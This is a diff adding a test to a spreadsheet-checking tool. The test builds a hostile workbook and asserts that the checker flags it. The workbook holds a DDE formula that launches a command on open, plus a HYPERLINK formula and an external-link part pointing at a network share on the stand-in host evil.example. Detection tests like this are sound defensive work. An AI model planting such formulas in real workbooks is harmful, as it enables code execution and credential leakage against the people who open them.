@@ -565,3 +565,47 @@ def test_english_counts_one_thing_in_the_singular_and_uses_ascii_brackets(tmp_pa
     out = said("--lang", "en", "merge", tie, "-o", tmp_path / "s.xlsx", "--unit", "县")
     assert out == "xltools: The inputs report different years, equally often: 2024 (2), 2023 (2); say which with " \
         "--year\n"
+
+
+def test_formulas_that_run_programs_or_reach_other_files_are_findings(tmp_path):
+    # issue 26 (3): a DDE formula, a HYPERLINK to a share and an external link part gave 0 findings
+    import re
+    import zipfile
+
+    source = EXAMPLES / "chitudian-2023.xlsx"
+    with zipfile.ZipFile(source) as z:
+        parts = {i.filename: z.read(i) for i in z.infolist()}
+    overview = parts["xl/worksheets/sheet2.xml"].decode()
+    cached = re.search(r'<c r="A4" s="6" t="inlineStr"><is><t>(.*?)</t></is></c>', overview)
+    parts["xl/worksheets/sheet2.xml"] = overview.replace(
+        cached.group(0), f'<c r="A4" s="6" t="str"><f>cmd|\' /C calc\'!A0</f><v>{cached.group(1)}</v></c>').encode()
+    cover = parts["xl/worksheets/sheet1.xml"].decode()
+    row3 = cover.index("</row>", cover.index('<c r="B3"'))
+    parts["xl/worksheets/sheet1.xml"] = (cover[:row3] + '<c r="C3" t="str"><f>HYPERLINK("file://///evil.example/'
+                                         'share/doc","点击查看")</f><v>点击查看</v></c>' + cover[row3:]).encode()
+    proactive = parts["xl/worksheets/sheet3.xml"].decode()
+    typed = re.search(r'<c r="B6" ([^>]*)t="n"><v>0</v></c>', proactive)
+    parts["xl/worksheets/sheet3.xml"] = proactive.replace(typed.group(0), f'<c r="B6" {typed.group(1)}><f>1-1</f>'
+                                                          '<v>0</v></c>').encode()
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
+        b'openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>')
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+        b'Target="file://///evil.example/share/x.xlsx" TargetMode="External"/></Relationships>')
+    hostile = tmp_path / "示例.xlsx"
+    with zipfile.ZipFile(hostile, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    result = one(hostile)
+    said = [(f.rule, f.severity, f.message()) for f in result.findings if f.rule in ("S6", "W11")]
+    assert said == [
+        ("S6", "error", "工作簿含有指向外部文件的链接“file://///evil.example/share/x.xlsx”，"
+                        "打开时 Excel 会尝试连接它。"),
+        ("S6", "error", "封面!C3 含有引用其他文件或网络位置的公式（如 封面!C3："
+                        "“=HYPERLINK(\"file://///evil.example/share/doc\",\"点击查看\")”）。"),
+        ("S6", "error", "一、总体情况!A4 含有 DDE 公式（如 一、总体情况!A4：“=cmd|' /C calc'!A0”），"
+                        "打开文件时可能启动其他程序。"),
+        ("W11", "warning", "二、主动公开!B6 应直接填写数值或文字，实际含有公式（如 二、主动公开!B6：“=1-1”）。"),
+    ]
